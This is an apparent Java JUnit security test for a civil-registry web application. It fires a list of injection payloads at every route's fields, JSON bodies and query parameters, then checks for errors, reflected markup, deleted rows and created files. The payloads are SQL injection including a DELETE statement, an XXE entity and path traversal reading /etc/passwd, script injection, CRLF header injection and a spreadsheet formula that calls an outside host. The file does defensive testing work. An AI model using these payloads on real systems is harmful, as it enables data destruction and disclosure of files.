package org.regjistri.access;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.regjistri.access.RouteRecipe.Call;
import org.regjistri.access.Routes.Person;
import org.regjistri.testing.RegisterTest;
import org.regjistri.testing.TestDatabase;
import org.regjistri.testing.TestPeople;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/// S6: whatever is typed is text, in every place of every route where something can be typed.
@RegisterTest(together = Routes.class)
class InjectionTest {
    private static final boolean LONG = Boolean.getBoolean("regjistri.long");
    private static final JsonMapper JSON = new JsonMapper();
    private static final String MARK = "zq9k";

    private static final List<String> PAYLOADS = List.of(
            "zq9k'; DELETE FROM persons.person; --",
            "' OR '1'='1",
            "1); SELECT pg_sleep(5) --",
            "%",
            "_%_",
            "=HYPERLINK(\"http://x/?\"&A1;\"zq9k\")",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "\"><zq9k onclick=alert(1)></zq9k><script>zq9k()</script>",
            "zq${7*7}k zq#{7*7}k zq@{7*7}k zq!{7*7}k zq{{7*7}}k",
            "zq9k\r\nX-Zq9k: yes\r\n\r\n<html>",
            "../../../../../../etc/passwd",
            "zq9k.txt/../../zq9k",
            "zq\u0000k",
            "\u202Ezq9k\u200F\u2066",
            "zq9k\uD83D\uDE00\uFFFE",
            "zq9k".repeat(5_000));

    private final Set<String> wrong = new LinkedHashSet<>();
    private final Routes routes;
    private final RowCounts counts;
    private final TestPeople people;
    private int asked;

    @Autowired
    InjectionTest(Routes routes, TestDatabase database, TestPeople people) {
        this.routes = routes;
        this.counts = new RowCounts(database);
        this.people = people;
    }

    @Test
    void whatever_is_typed_stays_text() throws IOException {
        Map<String, Long> before = counts.read();
        for (String route : routes.all()) {
            if (!Routes.endsTheSession(route)) {
                attack(route);
            }
        }
        assertThat(wrong).isEmpty();
        assertThat(asked).as("requests").isGreaterThan(1000);
        Map<String, Long> after = counts.read();
        assertThat(before.keySet().stream()
                        .filter(table -> !isWorkingState(table)
                                && after.getOrDefault(table, 0L) < before.getOrDefault(table, 0L)))
                .as("tables that lost rows")
                .isEmpty();
        assertThat(filesNamed()).as("files named by what was typed").isEmpty();
    }

    /// Whose rows come and go.
    private static boolean isWorkingState(String table) {
        return Set.of("access.sign_in_lock", "journal.unsequenced", "documents.awaiting_seal", "persons.name_key")
                .contains(table);
    }

    /// Each place gets a part of the payloads, and each payload comes to a part of the places; all to all with --long.
    private void attack(String route) {
        Person person = routes.whoMay(route);
        Call call = routes.call(route, person);
        int place = 0;
        for (String field : call.fields().keySet()) {
            each(place++, payload -> {
                Map<String, String> fields = new LinkedHashMap<>(call.fields());
                fields.put(field, payload);
                send(route, call.with(fields), person, field, payload);
            });
        }
        for (List<Object> leaf : leaves(call)) {
            each(place++, payload -> {
                JsonNode body = JSON.readTree(String.valueOf(call.json()));
                replace(body, leaf, payload);
                send(route, call.withJson(JSON.writeValueAsString(body)), person, leaf.toString(), payload);
            });
        }
        for (String parameter : parameters(route, call)) {
            each(place++, payload -> {
                String path = call.path().replaceAll("([?&]" + parameter + "=)[^&]*", "");
                path += (path.contains("?") ? "&" : "?") + parameter + "=" + encoded(payload);
                send(route, new Call(path, call.fields(), call.json(), call.picture()), person, parameter, payload);
            });
        }
    }

    private interface Attempt {
        void with(String payload);
    }

    private static void each(int place, Attempt attempt) {
        for (int i = 0; i < PAYLOADS.size(); i++) {
            if (LONG || (i + place) % 4 == 0 || PAYLOADS.get(i).contains("\u0000")) {
                attempt.with(PAYLOADS.get(i));
            }
        }
    }

    private void send(String route, Call call, Person person, String place, String payload) {
        asked++;
        HttpResponse<String> response = routes.send(route, call, person);
        String what = route + ", " + place + ", " + payload.substring(0, Math.min(60, payload.length())) + ": ";
        if (response.statusCode() >= 500) {
            wrong.add(what + response.statusCode());
        }
        if (response.headers().firstValue("X-Zq9k").isPresent()) {
            wrong.add(what + "a header of whoever asks");
        }
        String body = response.body();
        String type = response.headers().firstValue("Content-Type").orElse("");
        if (type.startsWith("text/html") && (body.contains("<zq9k") || body.contains("<script>zq9k"))) {
            wrong.add(what + "markup of whoever asks");
        }
        if (body.contains("zq49k")) {
            wrong.add(what + "was computed");
        }
        if (body.contains("root:x:0")) {
            wrong.add(what + "shows a file");
        }
        if (body.contains("PSQLException") || body.contains("syntax error")) {
            wrong.add(what + "shows the database");
        }
    }

    /// Of the recipe, and what such pages like to have.
    private static List<String> parameters(String route, Call call) {
        List<String> names = new ArrayList<>();
        if (Routes.method(route).equals("GET")) {
            int query = call.path().indexOf('?');
            if (query >= 0) {
                Stream.of(call.path().substring(query + 1).split("&", -1))
                        .map(pair -> pair.substring(0, Math.max(0, pair.indexOf('='))))
                        .forEach(names::add);
            }
            Stream.of("after", "return", "show", "person", "office", "q", "page", "validAt", "recordedAt", "day.year")
                    .filter(name -> !names.contains(name))
                    .forEach(names::add);
        }
        return names;
    }

    /// The ways to all texts of the body: names of fields and places in lists.
    private static List<List<Object>> leaves(Call call) {
        List<List<Object>> leaves = new ArrayList<>();
        if (call.json() != null) {
            collect(JSON.readTree(call.json()), List.of(), leaves);
        }
        return leaves;
    }

    private static void collect(JsonNode node, List<Object> way, List<List<Object>> leaves) {
        if (node.isObject()) {
            node.properties().forEach(field -> collect(field.getValue(), longer(way, field.getKey()), leaves));
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                collect(node.get(i), longer(way, i), leaves);
            }
        } else if (node.isString()) {
            leaves.add(way);
        }
    }

    private static List<Object> longer(List<Object> way, Object step) {
        List<Object> longer = new ArrayList<>(way);
        longer.add(step);
        return longer;
    }

    private static void replace(JsonNode body, List<Object> way, String payload) {
        JsonNode node = body;
        for (Object step : way.subList(0, way.size() - 1)) {
            node = step instanceof Integer index ? node.get(index) : node.get(step.toString());
        }
        if (way.getLast() instanceof Integer index) {
            ((ArrayNode) node).set(index, payload);
        } else {
            ((ObjectNode) node).put(way.getLast().toString(), payload);
        }
    }

    private static List<Path> filesNamed() throws IOException {
        try (Stream<Path> data = Files.walk(Path.of("target", "test-data"));
                Stream<Path> here = Files.list(Path.of("."))) {
            return Stream.concat(data, here)
                    .filter(file -> file.getFileName().toString().contains(MARK))
                    .toList();
        }
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text.length() > 4_000 ? text.substring(0, 4_000) : text, StandardCharsets.UTF_8);
    }

    @ParameterizedTest
    @ValueSource(strings = {"%", "_", "%%", "_%", "*", "?", ".*", "%a%", "' OR '1'='1", "\\"})
    void a_sign_that_stands_for_others_elsewhere_finds_nobody(String surname) {
        people.couple();
        Person registrar = routes.known(Role.REGISTRAR);
        HttpResponse<String> response =
                registrar.program().post("/api/v1/persons/find", Map.of("surname", surname, "ground", "PARTY_PRESENT"));
        assertThat(JSON.readTree(response.body()).path("persons")).isEmpty();
    }
}
